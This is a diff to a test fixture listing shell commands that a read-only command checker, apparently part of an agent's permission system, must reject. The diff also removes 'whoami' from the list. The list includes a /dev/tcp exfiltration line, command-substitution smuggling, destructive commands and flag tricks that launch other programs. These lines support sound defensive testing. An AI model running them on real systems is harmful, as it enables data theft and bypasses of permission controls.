@@ -99,7 +99,7 @@ NOT_READ_ONLY = [
     "cat ok.txt > /dev/tcp/h/1", "kill 1", "chmod +x ok.txt", "ln -s a b", "rm ok.txt", "dd if=ok.txt of=x", "enable -f x y",
     "exec ls", "bash ok.txt", "bash", "cat $X", "cat $(ls)", "ls;", "unset PATH", "set -x; ls", "shopt -s x", "hash -p x ls",
     "printf -v PATH x", "read PATH < ok.txt", "test -v 'a[$(id)]'", "ls 'unbalanced", "cat <<E", "git log\0", "ls \ud800",
-    "id", "env", "env -S 'id'", "printenv", "whoami", "history -s x", "date -s x", "hostname x", "ifconfig x", "man -P id ls", "git grep -Oid x",
+    "id", "env", "env -S 'id'", "printenv", "history -s x", "date -s x", "hostname x", "ifconfig x", "man -P id ls", "git grep -Oid x",
     "sort --compress-program=id ok.txt", "file -m x -C", "tree -o x", "xxd -r ok.txt out", "split ok.txt", "csplit ok.txt 1",
 ]  # fmt: skip
 
